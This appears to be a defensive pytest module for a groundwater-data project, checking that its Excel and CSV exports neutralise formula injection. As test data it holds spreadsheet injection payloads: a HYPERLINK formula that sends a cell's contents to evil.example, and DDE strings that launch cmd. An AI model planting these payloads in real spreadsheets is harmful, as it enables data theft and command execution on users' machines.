"""Formula injection: every spreadsheet the project writes, on hostile ledger, task, point and
lab data, opens without a single formula cell, and every CSV value that a spreadsheet would run
is neutralised; hostile text survives export → import unchanged.

The exports are enumerated twice: here, each one produced from a store holding hostile text,
and by scanning the source, so that a new ``download_button`` or a new writer that does not go
through :mod:`gwlib.io.export` fails :func:`test_every_download_is_a_covered_export` and
:func:`test_no_table_writer_outside_gwlib_export`.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from gwlib.cli import main
from gwlib.io.export import csv_bytes, csv_quote, csv_unquote, excel_bytes
from gwlib.io.lab import read_lab_file
from gwlib.io.tables import read_table
from gwlib.io.wells import import_ledger_file, ledger_bytes, read_ledger, template_bytes
from gwlib.plans.checklist import build_checklist, to_excel
from gwlib.plans.metrics import MetricData
from gwlib.plans.model import ActionPlan, PlanTask
from gwlib.quality.annual import exceedance_table
from gwlib.quality.assess import assess
from gwlib.quality.model import MonitoringPoint
from gwlib.quality.register import register_bytes
from gwlib.quality.register import template_bytes as points_template
from gwlib.quality.report import point_report
from gwlib.quality.standards import get_standard
from gwlib.quality.trends import refresh_trends
from gwlib.sources.findings import Entity, EntityKind, Finding, Severity, findings_frame
from gwlib.sources.zone_import import corner_template_bytes
from gwlib.store import Store
from tests.accounts import LOCAL

ROOT = Path(__file__).resolve().parents[2]
STD = get_standard()
ACTOR = LOCAL  # the command line: no app account needed
AUTH = "绛县水务局"
# Payloads from the security probe, and the other characters a spreadsheet starts a formula with.
LINK = '=HYPERLINK("http://evil.example/?d="&B2,"详情")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
QUOTED = "'=1+2"  # already starts with an apostrophe: must come back as it is
HOSTILE = (LINK, DDE, PLUS, MINUS, AT, QUOTED)
POINT = "-P1+cmd|' /C calc'!A0"  # a monitoring point code
# What a spreadsheet reads as a number and nothing else (left alone in CSV).
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


# -- checks -----------------------------------------------------------------------------------


def xlsx_cells(data: bytes) -> Iterator[tuple[str, str, object, str]]:
    """(sheet, coordinate, value, data_type) of every cell, as openpyxl reads the file."""
    wb = load_workbook(io.BytesIO(data))  # not data_only: formulas are seen as formulas
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                yield ws.title, c.coordinate, c.value, c.data_type


def assert_no_formula(data: bytes, what: str) -> list[str]:
    """No formula cell, by openpyxl and in the raw sheet XML; returns the text cells."""
    texts = []
    for sheet, coord, value, kind in xlsx_cells(data):
        assert kind != "f", f"{what}: {sheet}!{coord} is a formula: {value!r}"
        if isinstance(value, str):
            texts.append(value)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = zf.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"{what}: <f> in {name}"
    return texts


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_csv_neutralised(data: bytes, what: str) -> list[str]:
    """Every value starting with = + - @, tab or CR is a plain number or has a leading '."""
    cells = [c for row in csv_cells(data) for c in row]
    for c in cells:
        if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert NUMBER.fullmatch(c), f"{what}: {c!r} is not neutralised"
    return cells


# -- a store full of hostile text ---------------------------------------------------------------


def _ledger_csv(path: Path) -> Path:
    header = ["井编码", "井类别", "井别", "乡镇", "村", "经度", "纬度", "井深(m)", "所有权人",
              "联系电话", "废弃原因", "排查日期", "状态", "备注", "责任主体", "牵头部门"]  # fmt: skip
    rows = [
        ["=1+2", "取水井", "农田灌溉井", "古绛镇", LINK, "111.57", "35.49", "12.5", DDE,
         "=1+2", PLUS, "2023-06-30", "已排查登记", AT, MINUS, "'" + QUOTED],  # reads as QUOTED
        ["+86-1", "取水井", "供水井", "古绛镇", DDE, "111.58", "35.48", "80", LINK,
         "-13800000000", AT, "2023-06-30", "已排查登记", MINUS, PLUS, LINK],
        ["@W3", "钻井", "水文孔", "古绛镇", QUOTED, "111.59", "35.47", "", AT,
         "@1", MINUS, "2023-06-30", "已排查登记", LINK, DDE, AT],
        ["-W4", "矿井", "其他", "古绛镇", MINUS, "111.60", "35.46", "", PLUS,
         "", LINK, "2023-06-30", "已排查登记", DDE, AT, MINUS],
    ]  # fmt: skip
    return _write_rows(path, [header, *rows])


def _write_rows(path: Path, rows: list[list[str]]) -> Path:
    """A CSV as a person (or an attacker) writes it: values as they are, nothing protected."""
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


def _point(code: str, name: str, township: str) -> MonitoringPoint:
    return MonitoringPoint.from_row(
        {
            "code": code,
            "name": name,
            "category": "国考",
            "township": township,
            "lon": 111.57,
            "lat": 35.49,
            "aquifer": "孔隙",
            "burial": "潜水",
            "target_class": "Ⅲ",
            "frequency": "丰枯各1次",
            "depth_m": 80,
        }
    )


def _lab_csv(path: Path) -> Path:
    rows = [["点位编码", "采样日期", "水期", "指标", "监测值", "单位"]]
    for year in (2019, 2020, 2021, 2022, 2023):
        rows += [
            [
                POINT,
                f"{year}-06-15",
                "丰水期",
                "氟化物",
                f"{1.5 + (year - 2019) * 0.3:.1f}",
                "mg/L",
            ],
            [POINT, f"{year}-06-15", "丰水期", "硝酸盐氮", "25", "mg/L"],
        ]
    rows += [[POINT, "2023-06-15", "丰水期", "砷", LINK, "mg/L"]]  # rejected: a report row
    rows += [[DDE, "2023-06-15", "丰水期", "砷", "0.001", AT]]  # rejected: unknown unit
    return _write_rows(path, rows)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, Path]]:
    d = tmp_path_factory.mktemp("hostile")
    store = Store.open(f"sqlite:///{d / 'h.sqlite'}")
    rep = import_ledger_file(store, ACTOR, _ledger_csv(d / "ledger.csv"), AUTH)
    assert (rep.imported, rep.rejected) == (4, 0), rep.issues
    store.upsert_points([_point(POINT, LINK, AT)])
    batch = read_lab_file(_lab_csv(d / "lab.csv"), STD)
    store.write_assessment(assess(batch.frame, STD), "lab.csv")
    refresh_trends(store)
    store.save_plan(
        ActionPlan(
            2025,
            "绛县",
            DDE,
            "",
            (
                PlanTask(1, LINK, PLUS, MINUS, (AT, DDE), (LINK,), (QUOTED,)),
                PlanTask(2, "一、地下水", "完成 5 眼报废井封井", "完成 5 眼报废井封井", (MINUS,)),
            ),
        ),
        by=ACTOR,
    )
    yield store, d
    store.close()


# -- every export ------------------------------------------------------------------------------


def _xlsx_exports(store: Store, d: Path) -> dict[str, bytes]:
    wells = store.wells()
    points = store.points()
    plan = store.plan_tasks(2025)
    statuses = pd.DataFrame(
        [
            {
                "section": LINK,
                "number": 1,
                "status": "进行中",
                "evidence": DDE,
                "updated_by": AT,
                "updated_at": dt.datetime(2025, 3, 1),
                "version": 1,
            }
        ]
    )
    check = build_checklist(plan, statuses, MetricData.from_store(store), dt.date(2025, 6, 30))
    report = point_report(store.measurements(POINT), store.samples(), store.trends(), STD, POINT)
    assert main(["wells", "export", "--db", f"sqlite:///{d / 'h.sqlite'}",
                 "-o", str(d / "cli.xlsx")]) == 0  # fmt: skip
    assert main(["wells", "template", "-o", str(d / "cli_template.xlsx")]) == 0
    return {
        "台账导入导出 / 导出全部台账": ledger_bytes(wells),
        "台账 / 导出筛选后的台账": ledger_bytes(wells[wells["code"] != "-W4"]),
        "台账导入导出 / 空白模板": template_bytes(),
        "python -m gwlib wells export": (d / "cli.xlsx").read_bytes(),
        "python -m gwlib wells template": (d / "cli_template.xlsx").read_bytes(),
        "年度目标任务清单 / 导出 Excel": to_excel(check.tasks),
        "水质类别与趋势 / 点位报告": excel_bytes(report.sheets()),
        "监测点位登记 / 导出（Excel）": register_bytes(points),
        "监测点位登记 / 模板": points_template(),
        "保护区与分区导入 / 拐点坐标表模板": corner_template_bytes(),
        "水质类别与趋势 / 超标明细": excel_bytes(
            {"超标明细": exceedance_table(store.exceedances(), points, STD)}
        ),
    }


def _csv_exports(store: Store, d: Path) -> dict[str, bytes]:
    lab = d / "lab.csv"
    out = d / "out"
    assert main(["grade", str(lab), "-o", str(out / "g.csv"), "--detail", str(out / "gd.csv"),
                 "--report", str(out / "gr.csv")]) == 2  # fmt: skip
    assert main(["trend", str(lab), "-o", str(out / "t.csv"), "--report", str(out / "tr.csv")]) == 2
    bad = d / "bad_ledger.csv"
    bad.write_text(
        f"井编码,井类别,经度,纬度\nW9,{PLUS},,\nW10,取水井,{DDE},35.5\n", encoding="utf-8"
    )
    code = main(["wells", "import", str(bad), "--db", f"sqlite:///{d / 'h.sqlite'}",
                 "--report", str(out / "wr.csv")])  # fmt: skip
    assert code == 2
    finding = Finding(
        "unsealed_well_in_zone", Severity.HIGH, (Entity(EntityKind.WELL, "=1+2", LINK),),
        DDE, AT, (-3.5, 35.0, 111.6, 35.5),
    )  # fmt: skip
    return {
        "python -m gwlib grade (结果)": (out / "g.csv").read_bytes(),
        "python -m gwlib grade --detail": (out / "gd.csv").read_bytes(),
        "python -m gwlib grade --report": (out / "gr.csv").read_bytes(),
        "python -m gwlib trend (结果)": (out / "t.csv").read_bytes(),
        "python -m gwlib trend --report": (out / "tr.csv").read_bytes(),
        "python -m gwlib wells import --report": (out / "wr.csv").read_bytes(),
        "一张图 / 导出问题清单（CSV）": csv_bytes(findings_frame([finding])),
        "监测点位登记 / 导出（CSV）": register_bytes(store.points(), ".csv"),
    }


def test_every_xlsx_export_has_no_formula_and_keeps_the_hostile_text(
    hostile: tuple[Store, Path],
) -> None:
    store, d = hostile
    exports = _xlsx_exports(store, d)
    texts = {what: assert_no_formula(data, what) for what, data in exports.items()}
    # The hostile text did reach the files (as text), so the check above tested something.
    for what in ("台账导入导出 / 导出全部台账", "python -m gwlib wells export"):
        assert set(HOSTILE) | {"=1+2", "@W3"} <= set(texts[what]), what
    assert {LINK, DDE, PLUS, MINUS, AT} <= set(texts["年度目标任务清单 / 导出 Excel"])
    assert {LINK, AT, POINT} <= set(texts["水质类别与趋势 / 超标明细"])
    assert "氟化物" in texts["水质类别与趋势 / 点位报告"]  # no free text in it, but written
    # Numbers stay number cells (井深, 经度), text that looks like a number stays text (电话).
    ledger = load_workbook(io.BytesIO(exports["台账导入导出 / 导出全部台账"])).worksheets[0]
    header = [c.value for c in ledger[1]]
    at = next(r for r in ledger.iter_rows(min_row=2) if r[0].value == "+86-1")
    row = dict(zip(header, at, strict=True))
    assert (row["井深(m)"].value, row["井深(m)"].data_type) == (80, "n")
    assert row["经度"].data_type == "n"
    assert (row["联系电话"].value, row["联系电话"].data_type) == ("-13800000000", "s")


def test_every_csv_export_is_neutralised_and_numbers_stay_numbers(
    hostile: tuple[Store, Path],
) -> None:
    store, d = hostile
    exports = _csv_exports(store, d)
    cells = {what: assert_csv_neutralised(data, what) for what, data in exports.items()}
    assert "'" + POINT in cells["python -m gwlib grade (结果)"]
    assert "'" + POINT in cells["python -m gwlib grade --detail"]
    assert "'" + LINK in cells["python -m gwlib grade --report"]
    assert "'" + DDE in cells["python -m gwlib wells import --report"]
    assert "'" + PLUS in cells["python -m gwlib wells import --report"]
    findings = cells["一张图 / 导出问题清单（CSV）"]
    assert {"'" + DDE, "'" + AT, "-3.5"} <= set(findings)  # the bbox stays a number
    trend = pd.read_csv(io.BytesIO(exports["python -m gwlib trend (结果)"]), encoding="utf-8-sig")
    assert pd.api.types.is_float_dtype(trend["slope"])  # numeric columns stay numeric


# -- the rules, one by one ---------------------------------------------------------------------


def test_excel_bytes_writes_text_as_string_cells_and_numbers_as_numbers() -> None:
    frame = pd.DataFrame({"text": [*HOSTILE, "-3.5", "\t=1"], "number": [-3.5] * 8})
    data = excel_bytes({"表": frame})
    assert_no_formula(data, "excel_bytes")
    ws = load_workbook(io.BytesIO(data))["表"]
    assert [ws.cell(row=r, column=1).value for r in range(2, 10)] == list(frame["text"])
    assert {ws.cell(row=r, column=2).data_type for r in range(2, 10)} == {"n"}
    assert ws["A2"].quotePrefix and ws["A8"].quotePrefix  # Excel keeps it text when edited
    assert not ws["A9"].quotePrefix  # a tab does not start a formula in an xlsx


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+2", "'=1+2"),
        (DDE, "'" + DDE),
        ("+1", "+1"),  # a number: a spreadsheet reads it as 1 and nothing else
        ("-3.5", "-3.5"),
        ("-1e-3", "-1e-3"),
        ("-x", "'-x"),
        ("--1", "'--1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # so that import, which takes one apostrophe off, gives it back
        ("'abc", "'abc"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_csv_quote_and_its_inverse(text: str, written: str) -> None:
    assert csv_quote(text) == written
    assert csv_unquote(written) == text


def test_csv_round_trip_through_the_importer(tmp_path: Path) -> None:
    values = [*HOSTILE, "-3.5", "'abc", "''=x", "\t=1", "普通文字"]
    frame = pd.DataFrame({"名称": values, "数值": [-3.5] * len(values)})
    path = tmp_path / "t.csv"
    path.write_bytes(csv_bytes(frame))
    assert_csv_neutralised(path.read_bytes(), "csv_bytes")
    back = read_table(path).frame
    assert list(back["名称"]) == values
    assert list(back["数值"]) == ["-3.5"] * len(values)


def test_ledger_round_trip_keeps_hostile_text(hostile: tuple[Store, Path], tmp_path: Path) -> None:
    """Export the hostile ledger, import it into an empty store: every value is equal."""
    store, _ = hostile
    wells = store.wells()
    path = tmp_path / "export.xlsx"
    path.write_bytes(ledger_bytes(wells))
    fresh = Store.open(f"sqlite:///{tmp_path / 'fresh.sqlite'}")
    try:
        rep = import_ledger_file(fresh, ACTOR, path, AUTH)
        assert (rep.imported, rep.rejected) == (len(wells), 0), rep.issues
        cols = [c for c in wells.columns if c not in ("id", "version")]
        pd.testing.assert_frame_equal(
            fresh.wells()[cols].sort_values("code").reset_index(drop=True),
            wells[cols].sort_values("code").reset_index(drop=True),
        )
        assert set(wells["code"]) == {"=1+2", "+86-1", "@W3", "-W4"}
        assert set(wells["owner"]) == {DDE, LINK, AT, PLUS}
    finally:
        fresh.close()


def test_formula_cells_from_other_programs_are_read_as_their_text(tmp_path: Path) -> None:
    """A ledger exported before this fix holds real formula cells without a cached value: they
    are read as the text they were, not as blanks nor as a value a program computed."""
    wb = Workbook()
    ws = wb.active
    ws.append(["井编码", "井类别", "井别", "乡镇", "所有权人"])
    ws.append(["=1+2", "取水井", "供水井", "古绛镇", LINK])
    ws.append(["W2", "取水井", "供水井", "古绛镇", DDE])
    assert ws["A2"].data_type == "f" and ws["E2"].data_type == "f"
    wb.save(tmp_path / "old.xlsx")
    got = {r["code"]: r for _, r in read_ledger(tmp_path / "old.xlsx").rows}
    assert set(got) == {"=1+2", "W2"}
    assert (got["=1+2"]["owner"], got["W2"]["owner"]) == (LINK, DDE)


# -- the enumeration is complete ----------------------------------------------------------------

# Expressions a download button may hand to the browser, and the export above that covers each.
COVERED = {"excel_bytes", "ledger_bytes", "template_bytes", "to_excel", "csv_bytes",
           "export_bytes", "corner_template_bytes"}  # fmt: skip
NOT_A_SPREADSHEET = {
    "zones_to_geojson",  # GeoJSON
    "zones_to_kml",  # KML
    "payload",  # 简报 .docx/.pptx/.pdf (pack_bytes)
    "bulletin_bytes",  # 通报 .docx
    "assessment_bytes",  # 评估考核 .docx
    "read_bytes",  # 单井档案: an attachment, given back exactly as it was uploaded
}
WRITERS = re.compile(r"\.to_excel\(|\.to_csv\(|ExcelWriter\(|csv\.writer\(|DictWriter\(|Workbook\(")


def _sources() -> list[Path]:
    paths = [ROOT / "app.py"]
    for d in ("gwlib", "gwui", "views"):
        paths += (ROOT / d).rglob("*.py")
    return sorted(p for p in paths if "migrations" not in p.parts)


def test_every_download_is_a_covered_export() -> None:
    found = []
    for path in _sources():
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr == "download_button"
            ):
                data = (
                    node.args[1]
                    if len(node.args) > 1
                    else next(k.value for k in node.keywords if k.arg == "data")
                )
                names = {n.id for n in ast.walk(data) if isinstance(n, ast.Name)}
                names |= {n.attr for n in ast.walk(data) if isinstance(n, ast.Attribute)}
                where = f"{path.relative_to(ROOT)}:{node.lineno}"
                assert names & (COVERED | NOT_A_SPREADSHEET), (
                    f"{where}: a download not covered by test_export_safety: {ast.unparse(data)}"
                )
                found.append(where)
    assert len(found) >= 9  # the downloads listed in the module docstring's exports


def test_no_table_writer_outside_gwlib_export() -> None:
    for path in _sources():
        rel = path.relative_to(ROOT).as_posix()
        text = path.read_text(encoding="utf-8")
        for m in WRITERS.finditer(text):
            if rel == "gwlib/io/export.py":
                continue
            line = text[: m.start()].count("\n") + 1
            # The ledger template builds its workbook itself, every value through excel_value.
            ok = rel == "gwlib/io/wells.py" and m.group() == "Workbook(" and "excel_value(" in text
            assert ok, f"{rel}:{line}: {m.group()} — write tables through gwlib.io.export"
